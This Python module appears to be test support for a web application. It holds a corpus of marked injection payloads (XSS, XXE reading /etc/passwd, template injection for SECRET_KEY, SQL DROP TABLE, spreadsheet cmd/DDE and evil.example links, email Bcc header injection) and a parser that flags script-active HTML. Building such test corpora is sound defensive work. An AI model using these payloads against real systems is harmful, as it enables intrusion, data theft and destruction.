"""Words that a stranger may type to make a page, a file or a letter do something. Each carries MARK, to be found again."""

from html.parser import HTMLParser

MARK = "注入"

SCRIPTS = (
    "<script>alert('注入')</script>",
    "</title></textarea></script><script src=//evil.example/注入></script>",
    "\"><img src=x onerror=alert('注入')>",
    "' autofocus onfocus='alert(\"注入\")",
    "<svg/onload=alert('注入')>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert('注入') /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('注入')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('注入')>\">",
    "<iframe srcdoc=\"<script>alert('注入')</script>\"></iframe>",
    "<p style=\"background:url(javascript:alert('注入'))\">注入</p>",
    '<a href="jav\tascript:alert(\'注入\')">注入</a><a href="data:text/html,<script>注入</script>">注入</a>',
    "[注入](javascript:alert(1))",
    "]]><!--<![CDATA[<script>注入</script>]]>-->",
    '<!DOCTYPE x [<!ENTITY 注入 SYSTEM "file:///etc/passwd">]>&注入;',
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}{% include 'admin/base.html' %}注入",
    "${7*7}#{7*7}<%= 7*7 %>注入",
    '#read("/etc/passwd")#panic("注入")$x$ #include "注入.typ"',
)
DATABASE = ("'; DROP TABLE members_user; --注入", "注入%' OR '1'='1", '注入" AND * NEAR(')
CELLS = ('=HYPERLINK("http://evil.example","注入")', "+cmd|' /C calc'!A0注入", "-2+3注入", "@SUM(1,1)注入")
HEADERS = ("注入\r\nBcc: everybody@evil.example", "注入\u2028Subject: x\n\nbody")

ALL = (*SCRIPTS, *TEMPLATES, *DATABASE, *CELLS, *HEADERS)
# Fields of one line hold 200 characters: as few as carry every vector.
LINES: list[str] = []
for vector in ALL:
    if LINES and len(LINES[-1]) + len(vector) < 190:
        LINES[-1] += vector
    else:
        LINES.append(vector)

_NEVER = {"iframe", "object", "embed", "base", "animate", "math", "mglyph"}
_LEADS = ("href", "src", "action", "formaction", "xlink:href", "srcset")


class Active(HTMLParser):
    """Collects what of a page would run: handlers, scripts and styles of strangers, addresses that are programs."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._in = ""

    def handle_starttag(self, tag, attrs):
        given = {name: (value or "").strip().lower() for name, value in attrs}
        told = self.get_starttag_text()
        leads = [given[name].replace("\t", "") for name in _LEADS if name in given]
        if tag in _NEVER or any(one.startswith(("javascript:", "data:text", "//evil")) for one in leads):
            self.found.append(told)
        if any(name.startswith("on") and "alert" in value for name, value in given.items()):
            self.found.append(told)
        if "javascript" in given.get("style", ""):
            self.found.append(told)
        self._in = tag if tag in ("script", "style") and "json" not in given.get("type", "") else ""

    def handle_endtag(self, tag):
        self._in = ""

    def handle_data(self, data):
        if self._in and MARK in data:
            self.found.append(f"<{self._in}>{data[:80]}")


def active(html: str) -> list[str]:
    """What would run in the page; empty where the corpus is text and nothing else."""
    parser = Active()
    parser.feed(html)
    parser.close()
    return parser.found
